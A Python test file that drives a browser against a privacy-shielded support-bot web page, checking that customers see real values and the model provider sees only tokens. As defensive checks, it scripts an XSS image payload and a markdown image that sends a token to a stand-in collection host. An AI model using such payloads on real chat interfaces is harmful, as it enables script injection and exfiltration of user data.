"""The web page of examples/support_bot in Chromium: streamed values for the customer, tokens for the provider."""

from __future__ import annotations

import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import openai
import pytest
import uvicorn
from _chromium import Page, chromium

from privkit import Shield
from privkit.testing import FakeProvider, Fault, Reply

sys.path.insert(0, str(Path(__file__).parents[1]))

from examples.support_bot.web_bot import WebBot

MESSAGE = "I'm Jane Doe, jane@example.com"
LAST = "document.querySelector('#chat p.bot:last-child')"


@pytest.fixture
def provider() -> Iterator[FakeProvider]:
    with FakeProvider(piece=3, cut=5) as running:
        yield running


@pytest.fixture
def url(provider: FakeProvider) -> Iterator[str]:
    client = openai.AsyncOpenAI(base_url=provider.openai_url, api_key="any", max_retries=0)
    server = uvicorn.Server(uvicorn.Config(WebBot(client, Shield()).app(), port=0, log_level="error"))
    thread = threading.Thread(target=server.run)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}/"
    server.should_exit = True
    thread.join()


@pytest.fixture(scope="module")
def browser() -> Iterator[Page]:
    with chromium() as page:
        yield page


def send(page: Page, text: str) -> None:
    page.run(
        f"document.getElementById('message').value = {text!r}; document.getElementById('form').requestSubmit()"
    )


def answer(page: Page) -> str:
    page.wait(f"{LAST}?.dataset.done === 'true'")
    return str(page.run(f"{LAST}.textContent"))


def test_the_customer_sees_values_and_the_provider_tokens(
    browser: Page, provider: FakeProvider, url: str
) -> None:
    browser.open(url)

    def bot(text: str) -> str:
        send(browser, text)
        return answer(browser)

    assert [provider.run(bot, text) for text in (MESSAGE, "and again: Jane Doe")] == [
        MESSAGE,
        "and again: Jane Doe",
    ]
    provider.assert_no_pii()
    provider.assert_round_trip()
    shown = browser.run("[...document.querySelectorAll('#chat p')].map((line) => line.textContent)")
    assert shown == [MESSAGE, MESSAGE, "and again: Jane Doe", "and again: Jane Doe"]


def test_the_page_shows_an_answer_while_it_is_written(
    browser: Page, provider: FakeProvider, url: str
) -> None:
    go_on, waited = threading.Event(), []
    provider.script(
        lambda request: Reply(
            f"Hello {request.tokens[0]}, please wait a moment.",
            before_event=lambda number: waited.append(number != 12 or go_on.wait(60)),
        )
    )
    browser.open(url)
    send(browser, MESSAGE)
    browser.wait(f"{LAST}?.textContent.startsWith('Hello Jane Doe,')")
    assert browser.run(f"{LAST}.dataset.done") is None
    go_on.set()
    assert answer(browser) == "Hello Jane Doe, please wait a moment."
    assert all(waited)


def test_an_answer_is_never_read_as_html(browser: Page, provider: FakeProvider, url: str) -> None:
    provider.script("<img src=x onerror=\"document.title='taken over'\">")
    browser.open(url)
    send(browser, "hello")
    assert answer(browser).startswith("<img")
    assert browser.run("document.title") == "Support"
    assert browser.run("document.querySelectorAll('#chat img').length") == 0


def test_a_token_in_the_address_of_an_image_stays_a_token(
    browser: Page, provider: FakeProvider, url: str
) -> None:
    provider.script(lambda request: f"![](https://collect.example.net/?q={request.tokens[1]})")
    browser.open(url)
    send(browser, MESSAGE)
    assert "q=EMAIL_ADDRESS_1_" in answer(browser)


def test_a_failure_of_the_provider_is_told_without_details(
    browser: Page, provider: FakeProvider, url: str
) -> None:
    provider.script(Fault(500, "internal: jane@example.com"))
    browser.open(url)
    send(browser, MESSAGE)
    assert answer(browser) == "Sorry, that did not work. Please try again."


def test_two_customers_have_two_conversations(browser: Page, provider: FakeProvider, url: str) -> None:
    for name in ("Jane Doe", "Ali Yilmaz"):
        browser.send("Network.clearBrowserCookies")
        browser.open(url)
        send(browser, f"I'm {name}")
        assert answer(browser) == f"I'm {name}"
    first, second = (request.said for request in provider.requests)
    assert first.startswith("I'm PERSON_1_")
    assert second.startswith("I'm PERSON_1_")
    assert first != second
